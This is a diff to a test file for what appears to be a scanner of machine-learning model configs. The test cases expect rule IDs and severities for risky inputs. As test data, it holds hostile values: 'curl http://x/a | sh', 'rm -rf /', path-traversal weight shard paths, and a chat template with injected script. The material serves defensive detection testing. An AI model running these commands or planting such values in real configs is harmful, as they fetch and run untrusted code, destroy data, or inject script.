@@ -46,6 +46,8 @@ describe('what a loader would run, import or read is told', () => {
     ['a shard outside', { metadata: {}, weight_map: { w: '../x.safetensors' } }, 'MDL-CFG-007', 'high'],
     ['a shard by an absolute path', { weight_map: { w: '/tmp/x.bin' } }, 'MDL-CFG-007', 'high'],
     ['a command', { transformers_version: '4', hook: 'curl http://x/a | sh' }, 'MDL-CFG-002', 'high'],
+    ['a command beside a tag', { transformers_version: '4', hook: 'curl http://x/a | sh {{ x }}' }, 'MDL-CFG-002', 'high'],
+    ['a template that writes a command', { model_type: 'x', chat_template: '{{ x }}<script>alert(1)</script>' }, 'MDL-TPL-006', 'medium'],
     ['a command in any document', { settings: { debug_command: 'rm -rf /' } }, 'MDL-CFG-002', 'high'],
     ['a command at a harmless key', { settings: { text: 'rm -rf /' } }, 'MDL-CFG-014', 'medium'],
     ['a template in any document', { anything: climbing }, 'MDL-TPL-001', 'critical'],
